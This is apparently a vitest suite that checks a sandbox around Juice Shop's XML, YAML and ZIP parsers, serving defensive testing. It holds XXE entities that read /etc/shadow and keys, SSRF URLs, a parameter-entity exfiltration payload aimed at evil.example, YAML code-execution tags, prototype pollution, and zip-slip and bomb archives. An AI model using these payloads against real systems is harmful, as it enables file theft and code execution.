import { tmpdir } from 'node:os'
import { posix } from 'node:path'
import { fileURLToPath } from 'node:url'
import { strToU8, zipSync } from 'fflate'
import { afterAll, describe, expect, it } from 'vitest'
import { MAX_WRITTEN_BYTES } from '#containment/disk/file-system.ts'
import { openDisk } from '#containment/disk/testing.ts'
import { ParserThreads } from '#containment/parsers/parsers.ts'
import { drawThird } from '../support/sample.ts'

// Attempts in archives and documents, and the limit that stops each. The host has a real /etc/passwd; the instance has
// its own.

const { disk, db } = openDisk()
const threads = new ParserThreads()
/**
 * Threads with a short deadline, for attempts that only time stops. `containment/parsers` holds the real deadline.
 */
const hastyThreads = new ParserThreads({ parsing: 500 })
const createParsers = (by = threads) => by.createParsers((name) => disk.find(name))
afterAll(() => {
  threads.close()
  hastyThreads.close()
  db.close()
})

const OPEN = { substituteEntities: true, loadDeclarations: true }

async function outcomeOf(work: Promise<unknown>): Promise<string> {
  return work.then(
    (result) => (typeof result === 'string' ? result : JSON.stringify(result)),
    (error: Error) => error.message,
  )
}

const xml = (content: string | Uint8Array) => outcomeOf(createParsers().readXml(Buffer.from(content), OPEN))
const yaml = (content: string, by = threads) => outcomeOf(createParsers(by).readYaml(Buffer.from(content)))
const entity = (name: string) => `<!DOCTYPE a [<!ENTITY e SYSTEM "${name}">]><a>&e;</a>`

describe.concurrent('XML reaches', () => {
  it.each(
    drawThird([
      [
        'the real disk by a way out of the shop',
        'file:///juice-shop/../../../proc/self/maps',
        'no such file of the instance',
      ],
      ['the program by its real path', fileURLToPath(import.meta.url), 'the disk of the instance is a list'],
      ['real processes', 'file:///proc/2/environ', 'the disk of the instance is a list'],
      ['what only the administrator may read', 'file:///etc/shadow', 'the tree has owners and permissions'],
      ['private keys of the host', 'file:///juice-shop/encryptionkeys/jwt.key', 'keys are delivered by name'],
      [
        'private keys of the host by a detour',
        'file:///juice-shop/ftp/../encryptionkeys/ctf.key',
        'paths are normalised first',
      ],
      [
        'content that is not on that disk',
        'file:///juice-shop/ftp/../../content/customers.yml',
        'content is mapped folder by folder',
      ],
      [
        'content by encoded dots',
        'file:///juice-shop/ftp/%2e%2e/%2e%2e/content/keys/jwt.key',
        'decoding comes before normalising',
      ],
      ['content by dots encoded twice', 'file:///juice-shop/ftp/%252e%252e/keys/jwt.key', 'decoded once only'],
      ['content behind a NUL', 'file:///juice-shop/encryptionkeys/jwt.key%00.pub', 'paths with NUL are none'],
      ['hidden files', 'file:///juice-shop/ftp/.gitkeep', 'names that begin with a dot are none'],
      ['another machine by HTTP', 'http://169.254.169.254/latest/meta-data/', 'there is no network'],
      ['another machine by FTP', 'ftp://127.0.0.1/etc/passwd', 'there is no network'],
      [
        'another machine by its name in a file address',
        'file://evil.example/etc/passwd',
        'only this machine has a disk',
      ],
      ['another machine by a share', '//evil.example/share/passwd', 'only this machine has a disk'],
      [
        'a scheme of another parser',
        'php://filter/read=convert.base64-encode/resource=/etc/passwd',
        'no scheme but file',
      ],
      ['an archive', 'jar:file:///etc/passwd!/x', 'no scheme but file'],
      ['devices that libxml2 brings along', '/dev/shm/tmp', 'what libxml2 brings along was removed'],
      ['descriptors of the process', 'file:///proc/self/fd/3', 'the disk of the instance is a list'],
    ]),
  )('no %s', async (_what, name, _stop) => {
    const answer = await xml(entity(name))
    expect(answer).toMatch(/<a\/>|<a><\/a>|failed to load|Invalid|parser error|error/i)
    expect(answer).not.toMatch(/BEGIN|PRIVATE|root:x/)
  })

  it('the accounts of the instance, not those of the host', async () => {
    expect(await xml(entity('file:///etc/passwd'))).toContain('node:x:1000:1000::/home/node:/bin/bash')
    const marked = Buffer.from(disk.read('/proc/1/environ')).toString()
    expect(marked).toContain('HOSTNAME=juicer')
    expect(marked).not.toContain(String(process.env.PATH))
  })

  it.each(
    drawThird([
      [
        'a parameter entity that sends a file away',
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://evil.example/x.dtd">%d;]><a>&send;</a>',
        /not defined|<a/,
      ],
      ['a document type from elsewhere', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', /<a\/>/],
      [
        'a document type from a public identifier',
        '<!DOCTYPE a PUBLIC "-//x" "http://evil.example/x.dtd"><a/>',
        /<a\/>/,
      ],
      [
        'an inclusion',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>',
        /xi:include/,
      ],
      ['a stylesheet', '<?xml-stylesheet href="file:///etc/passwd"?><a/>', /<a\/>/],
      [
        'a schema',
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://evil.example/x.xsd"/>',
        /<a/,
      ],
      ['UTF-7', '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-', /Unsupported encoding/],
      ['depth', '<a>'.repeat(60_000), /Excessive depth/],
      [
        'attributes without number',
        `<a ${Array.from({ length: 15_000 }, (_, at) => `a${at}=""`).join(' ')}/>`,
        /<a|attribute/i,
      ],
      [
        'a circle of parameter entities',
        '<!DOCTYPE a [<!ENTITY % x "&#37;y;"><!ENTITY % y "&#37;x;">%x;]><a/>',
        /loop|PEReference|<a\/>/i,
      ],
      ['a name of a megabyte', `<${'a'.repeat(190_000)}/>`, /too long|Name/i],
      ['NUL', '<a>\0</a>', /./],
    ]),
  )('nothing by %s', async (_what, document, answer) => {
    expect(await xml(document)).toMatch(answer)
  })

  it('no more than sixteen files, each asked for in turn', async () => {
    const names = Array.from({ length: 40 }, (_, at) => `<!ENTITY e${at} SYSTEM "/etc/hostname?${at}">`)
    expect(await xml(`<!DOCTYPE a [${names.join('')}]><a>${names.map((_, at) => `&e${at};`).join('')}</a>`)).toMatch(
      /<a/,
    )
  })

  it('reads UTF-16 by the same rules', async () => {
    expect(await xml(Buffer.from(`\ufeff${entity('file:///etc/hostname')}`, 'utf16le'))).toContain('juicer')
    expect(await xml(Buffer.from(`\ufeff${entity('http://evil.example/')}`, 'utf16le'))).toContain('<a/>')
  })
})

describe.concurrent('YAML makes', () => {
  it.each(
    drawThird([
      ['a function', 'a: !!js/function "function () { return process }"', /Unresolved tag/],
      [
        'a function that is called when it is written',
        'toJSON: !!js/function "function () { process.exit() }"',
        /Unresolved tag/,
      ],
      ['a regular expression', 'a: !!js/regexp /((a+)+)b/', /Unresolved tag/],
      ['an object of another language', 'a: !!python/object/apply:os.system ["id"]', /Unresolved tag/],
      ['a prototype', '__proto__: {polluted: 1}\na: {<<: {__proto__: {polluted: 2}}}', /polluted|\{/],
      ['a merge of itself', 'a: &a\n  <<: *a\n', /alias|merge|\{|stack/i],
      ['a circle', 'a: &a {b: [*a]}', /circular|alias/i],
      ['a number without end', `a: ${'9'.repeat(100_000)}`, /null|Infinity|\{"a"/],
      ['a key that is a list', '? [a, b]\n: c', /\{/],
      ['depth', '['.repeat(100_000), /./, hastyThreads],
    ]),
  )('nothing but data of %s', async (_what, document, answer, by = threads) => {
    expect(await yaml(document, by)).toMatch(answer)
    expect({}).not.toHaveProperty('polluted')
  })

  it('no more of a bomb than its number of characters', async () => {
    const levels = Array.from({ length: 60 }, (_, at) => `l${at}: &l${at} [${at ? `*l${at - 1},*l${at - 1}` : 'x'}]`)
    const before = process.memoryUsage().rss
    expect(await yaml(levels.join('\n'), hastyThreads)).toBe('Script execution timed out.')
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000)
  })
})

/** Unpacks an archive as the shop does and returns the outcome by path. */
async function unpack(archive: Uint8Array): Promise<string[]> {
  const entries = await createParsers().unpack(Buffer.from(archive))
  return entries.map(({ name, content }) => {
    try {
      disk.write(posix.join('/juice-shop/uploads/complaints', name), content)
      return 'written'
    } catch (error) {
      return String(error instanceof Error && 'code' in error ? error.code : error)
    }
  })
}

const one = (name: string, content = 'x') => zipSync({ [name]: strToU8(content) })

describe('an archive writes', () => {
  it.each(
    drawThird([
      ['to the real disk', '/tmp/escaped', 'ENOENT'],
      ['into a folder that it brings along', 'sub/file.txt', 'ENOENT'],
      ['into a folder of the real disk, by a way up', `../../..${tmpdir()}/x/y`, 'ENOENT'],
      ['over the program', '../../build/app.js', 'EACCES'],
      ['over modules of the program', '../../node_modules/x.js', 'EACCES'],
      [
        'over texts of the page, which are those of the range',
        '../../frontend/dist/frontend/assets/i18n/en.json',
        'EACCES',
      ],
      ['over keys', '../../encryptionkeys/jwt.pub', 'EACCES'],
      ['over accounts', '../../../etc/passwd', 'EACCES'],
      ['over programs of the system', '../../../bin/sh', 'EACCES'],
      ['in place of a folder', '../../ftp', 'EISDIR'],
      ['through a file', '../../ftp/legal.md/x', 'ENOTDIR'],
      ['under no name', '..', 'EISDIR'],
      ['behind a NUL', 'legal.md\0.txt', 'EACCES'],
      ['a name without end', 'a'.repeat(300), 'ENAMETOOLONG'],
      ['over the papers of orders', 'order_5267-0123456789abcdef.pdf', 'EACCES'],
    ]),
  )('nothing %s', async (_what, name, stop) => {
    expect(await unpack(one(name))).toEqual([stop])
  })

  it('links as files: their target is their content', async () => {
    const archive = zipSync({ link: [strToU8('/etc/passwd'), { os: 3, attrs: (0o120777 << 16) >>> 0 }] })
    expect(await unpack(archive)).toEqual(['written'])
    expect(disk.read('/juice-shop/uploads/complaints/link').toString()).toBe('/etc/passwd')
  })

  it('through a link of the machine no further than the link would lead', async () => {
    disk.keep([
      ['/juice-shop/uploads/complaints/way', { kind: 'link', content: Buffer.from('/etc/passwd'), mode: 0o777 }],
    ])
    expect(await unpack(one('way'))).toEqual(['EACCES'])
    disk.keep([['/juice-shop/uploads/complaints/way', null]])
  })

  it('no file of an unknown compression, or with a password', async () => {
    const archive = Buffer.from(one('a.txt', 'hello'))
    const [local, entry] = [archive.indexOf('PK\u0003\u0004'), archive.indexOf('PK\u0001\u0002')]
    const strange = Buffer.from(archive)
    for (const at of [local + 8, entry + 10]) strange.writeUInt16LE(99, at)
    expect(await outcomeOf(unpack(strange))).toBe('FILE_ENDED')
    const locked = Buffer.from(archive)
    for (const at of [local + 6, entry + 8]) locked.writeUInt16LE(1, at)
    expect(await outcomeOf(unpack(locked))).toMatch(/FILE_ENDED|written/)
  })

  it('backslashes as part of a name', async () => {
    expect(await unpack(one('..\\..\\ftp\\legal.md', 'mine'))).toEqual(['written'])
    expect(disk.read('/juice-shop/ftp/legal.md').toString()).not.toBe('mine')
  })

  it('one file for two of the same name', async () => {
    const bytes = Buffer.from(zipSync({ 'a.txt': strToU8('one'), 'b.txt': strToU8('two') })).toString('latin1')
    expect(await unpack(Buffer.from(bytes.replaceAll('b.txt', 'a.txt'), 'latin1'))).toEqual(['written'])
  })

  it('no file that announces more than there is room for, and no more bytes than announced', async () => {
    const bomb = zipSync({ bomb: new Uint8Array(MAX_WRITTEN_BYTES + 1) })
    expect(bomb.length).toBeLessThan(10_000)
    expect(await outcomeOf(unpack(bomb))).toBe('ENOSPC: no space left on device, write')
    const liar = Buffer.from(bomb)
    for (const at of [liar.indexOf('PK\u0003\u0004') + 22, liar.indexOf('PK\u0001\u0002') + 24])
      liar.writeUInt32LE(10, at)
    const entries = await createParsers()
      .unpack(liar)
      .catch(() => [])
    expect(entries.every(({ content }) => content.length <= 10)).toBe(true)
  })

  it('no file of an archive with 2000 files', async () => {
    const many = zipSync(Object.fromEntries(Array.from({ length: 2000 }, (_, at) => [`f${at}`, new Uint8Array()])))
    expect(await outcomeOf(unpack(many))).toMatch(/ENOSPC/)
  })

  it('no file with false places in its directory: 64 bits, overlapping files, beyond the end', async () => {
    const archive = Buffer.from(one('a.txt', 'hello'))
    const entry = archive.indexOf('PK\u0001\u0002')
    for (const [at, value] of [
      [entry + 42, 0xffffffff],
      [entry + 42, archive.length],
      [entry + 20, 0xffffffff],
      [entry + 24, 0xffffffff],
    ] as const) {
      const broken = Buffer.from(archive)
      broken.writeUInt32LE(value, at)
      const answer = await outcomeOf(createParsers().unpack(broken))
      expect(answer.length, answer).toBeLessThan(1000)
    }
  })

  it('no more than the quota of an instance', () => {
    const part = Buffer.alloc(MAX_WRITTEN_BYTES / 2)
    const write = (name: string) => () => disk.write(`/juice-shop/uploads/complaints/${name}`, part)
    expect(write('first')).not.toThrow()
    expect(write('second')).toThrow(/ENOSPC/)
    expect(write('first')).not.toThrow()
  })
})
